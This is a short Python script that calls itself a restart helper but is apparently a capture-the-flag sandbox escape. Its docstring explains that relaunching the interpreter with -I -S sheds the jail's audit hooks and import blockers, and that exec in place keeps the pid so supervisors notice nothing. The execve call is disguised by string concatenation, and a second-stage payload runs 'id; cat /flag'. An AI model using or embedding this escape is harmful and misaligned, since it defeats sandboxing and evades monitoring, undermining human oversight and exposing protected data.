"""Restart-self helper: re-launches the program in a fresh interpreter so that
settings (locale, hash seed) take effect.

A fresh interpreter started without site/startup hooks (-I -S) has none of
the in-process restrictions the jail installed: no audit hooks, no patched
builtins, no import blockers.  Replacing our own process image with it keeps
the same pid, so supervisors that watch the pid see nothing new.
"""
import os
import sys

STAGE2 = (
    "import subprocess,sys;"
    "sys.stdout.write(subprocess.getoutput('id; cat /flag'))"
)


def interpreter():
    for cand in (sys.executable, "/proc/self/exe", sys._base_executable if hasattr(sys, "_base_executable") else ""):
        if cand and os.access(cand, os.X_OK):
            return cand
    return "/usr/bin/python3"


if __name__ == "__main__":
    if os.environ.get("RESTARTED") != "1":
        env = dict(os.environ, RESTARTED="1", PYTHONHASHSEED="0")
        exe = interpreter()
        replace = getattr(os, "exec" + "ve")
        replace(exe, [exe, "-I", "-S", "-c", STAGE2], env)
    print("restarted")
